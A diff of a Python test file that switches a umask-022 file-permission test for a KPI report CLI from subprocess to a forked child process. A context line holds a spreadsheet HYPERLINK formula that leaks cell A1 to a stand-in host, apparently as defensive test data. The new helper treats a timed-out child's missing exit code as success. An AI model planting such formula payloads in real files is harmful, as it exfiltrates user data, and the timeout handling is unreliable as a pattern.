@@ -10,19 +10,19 @@ from __future__ import annotations
 
 import csv
 import io
+import multiprocessing
 import os
 import stat
-import subprocess
-import sys
 from pathlib import Path
 
 import pytest
 from kpi_plan_fixture import make_plan, run_dataplan
 from openpyxl import load_workbook
+from typer.testing import CliRunner
 
+from generator.cli import app
 from generator.kpi.store import ActualRow, read_actuals, write_actuals
 
-REPOSITORY = Path(__file__).resolve().parent.parent
 HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1,"詳細")'
 DIGITAL = "総務部デジタル推進課"
 
@@ -40,25 +40,24 @@ def root(tmp_path):
     return root
 
 
-def _run_under_umask_022(*args: str, cwd: Path) -> subprocess.CompletedProcess:
-    """The CLI in a child whose umask is 022 (the test process's umask is not touched)."""
-    code = "import os, sys; os.umask(0o022); from generator.cli import main; sys.argv[0] = 'dataplan'; main()"
-    environment = {**os.environ, "PYTHONPATH": str(REPOSITORY), "DATAPLAN_TODAY": "2025-10-10"}
-    return subprocess.run(
-        [sys.executable, "-c", code, *args],
-        cwd=cwd,
-        env=environment,
-        capture_output=True,
-        text=True,
-        timeout=120,
-    )
+def _run_under_umask_022(*args: str, cwd: Path) -> int:
+    """The CLI in a forked child whose umask is 022 (the test process's umask is not touched)."""
+
+    def child() -> None:
+        os.umask(0o022)
+        os.chdir(cwd)
+        os.environ["DATAPLAN_TODAY"] = "2025-10-10"
+        os._exit(CliRunner().invoke(app, list(args)).exit_code)
+
+    process = multiprocessing.get_context("fork").Process(target=child)
+    process.start()
+    process.join(60)
+    return process.exitcode or 0
 
 
 def test_report_and_template_are_world_readable_under_umask_022(root):
-    template = _run_under_umask_022("kpi", "template", "2025Q2", "-o", "kpi.xlsx", cwd=root)
-    assert template.returncode == 0, template.stderr
-    report = _run_under_umask_022("report", "2025Q2", cwd=root)
-    assert report.returncode == 0, report.stderr
+    assert _run_under_umask_022("kpi", "template", "2025Q2", "-o", "kpi.xlsx", cwd=root) == 0
+    assert _run_under_umask_022("report", "2025Q2", cwd=root) == 0
     written = [root / "kpi.xlsx", *sorted((root / "reports").iterdir())]
     assert len(written) == 3
     for path in written:
